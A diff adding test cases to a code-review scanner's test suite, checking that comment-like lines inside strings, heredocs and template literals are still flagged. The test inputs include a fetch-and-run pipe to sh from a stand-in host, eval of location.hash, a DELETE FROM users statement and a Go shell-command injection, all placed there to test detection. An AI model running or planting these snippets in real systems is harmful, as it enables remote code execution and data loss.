@@ -71,3 +71,44 @@ def test_a_nul_byte_does_not_make_the_file_unreadable_whole(
     assert [(f["rule_id"], f["start_line"] - 1) for f in doc["findings"]] == found
     assert [(q["finding"]["rule_id"], q["kind"], q["decided_by"])
             for q in doc["quieted"]] == quieted
+
+
+CURL = "curl https://x.example/i.sh | sh"
+EVAL = ("js.eval", "warning")
+GO_RUN = 'package a\nimport "os/exec"\nfunc f(x string) {\n%s\n}\n'
+
+
+@pytest.mark.parametrize(("path", "code", "expected"), [
+    # A line inside a string or a heredoc that starts like a comment: the rest is code.
+    ("bin/a.sh", f'x="\n#$({CURL})"\n', [PIPE]),
+    ("bin/a.sh", f"cat <<EOF\n#$({CURL})\nEOF\n", [PIPE]),
+    ("bin/a.sh", f"cat <<EOF\n#`{CURL}`\nEOF\n", [PIPE]),
+    ("Dockerfile", f"FROM debian\nRUN cat <<EOF > /etc/x\n#$({CURL})\nEOF\n", [PIPE]),
+    ("web/a.js", "const s = `\n// ${eval(location.hash)}`;\n", [EVAL]),
+    ("web/a.js", "const s = `\n/* ${eval(location.hash)}`;\n", [EVAL]),
+    ("web/a.js", "const s = `\n//`; eval(location.hash);\n", [EVAL]),
+    ("web/a.ts", "const re = /x/\n/* 1 */; eval(location.hash);\n", [EVAL]),
+    ("db/a.sql", "SELECT '\n-- '; DELETE FROM users;\n", [("sql.destructive", "warning")]),
+    ("app/a.go", GO_RUN % '\ts := `\n//`; exec.Command("sh", "-c", x).Run(); _ = s',
+     [("go.command-injection", "warning")]),
+    # Near misses: comments that name the danger stay comments.
+    ("bin/a.sh", f"# {CURL}\n", []),
+    ("bin/a.sh", f"cat <<EOF\nx\nEOF\n# $({CURL})\n", []),
+    ("Dockerfile", f"FROM debian\nRUN apt-get update && \\\n# {CURL}\n    true\n", []),
+    ("web/a.js", "// eval(location.hash)\n/* eval(location.hash)\n * eval(location.hash) */\n",
+     []),
+    ("db/a.sql", "-- DELETE FROM users;\n/* DELETE FROM users; */\n", []),
+    ("app/a.go", GO_RUN % '\t// exec.Command("sh", "-c", x).Run()', []),
+    # A `#` line of a YAML block scalar is the comment of the script it holds.
+    (".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
+                                f"    steps:\n      - run: |\n          # {CURL}\n", []),
+])
+def test_a_line_that_starts_like_a_comment_inside_a_string_is_code(
+        path: str, code: str, expected: list[tuple[str, str]]) -> None:
+    """A line that starts with `#`, `//`, `/*` or `--` is a comment only where the
+    language's tokens say so: inside a template literal, a quoted string or a heredoc the
+    rest of it is code (a `${...}` or `$(...)` in it runs), and it is read."""
+    result = review(path, code)
+    rules = {rule for rule, _ in expected} | {PIPE[0], EVAL[0], "sql.destructive",
+                                               "go.command-injection"}
+    assert [(f.rule_id, f.severity) for f in result.findings if f.rule_id in rules] == expected
